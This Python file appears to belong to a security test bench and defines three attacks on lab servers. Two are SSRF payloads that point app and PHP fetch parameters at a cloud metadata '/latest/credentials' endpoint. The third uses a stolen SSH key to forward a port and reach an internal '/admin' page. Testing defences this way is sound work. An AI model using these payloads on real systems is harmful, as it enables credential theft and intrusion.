# SPDX-License-Identifier: GPL-2.0
"""A server is made to ask others on the intruder's behalf."""

from bench.attacks.attack import Attack
from bench.clients import shell, web
from bench.net import INTERNAL, INTERNAL_PORT, INTRUDER, METADATA, ask
from bench.patience import wait


class Relay(Attack):
    """An answer from a machine that the intruder cannot reach."""

    word = "metadata"
    is_quiet = True

    def damaged(self):
        return self.secret(self.word) in self.loot


class AppFetch(Relay):
    """The daemon fetches pages, and this one as well."""

    name = "relay-app-metadata"
    servers = ("app",)

    def run(self):
        self.loot = web.get(f"/fetch?url=http://{METADATA}/latest/credentials", 8000, INTRUDER)[1]


class PhpFetch(Relay):
    """A page that shows files shows those of other machines too."""

    name = "relay-php-metadata"
    servers = ("php", "nginx")

    def run(self):
        self.loot = web.get(f"/view.php?f=http://{METADATA}/latest/credentials", source=INTRUDER)[1]


class SshForward(Relay):
    """A stolen key, and a port that leads to the machine behind."""

    name = "relay-ssh-forward"
    servers = ("sshd",)
    word = "inside"
    patience = 60

    def run(self):
        client = shell.forward("alice", 4470, INTERNAL, INTERNAL_PORT)

        def comes():
            try:
                self.loot += ask(4470, b"GET /admin HTTP/1.0\r\n\r\n", INTRUDER, 5)
            except OSError:
                pass
            return self.loot

        try:
            wait(comes, 30, 0.5)
        finally:
            client.kill()
            client.wait(10)


ATTACKS = [AppFetch, PhpFetch, SshForward]
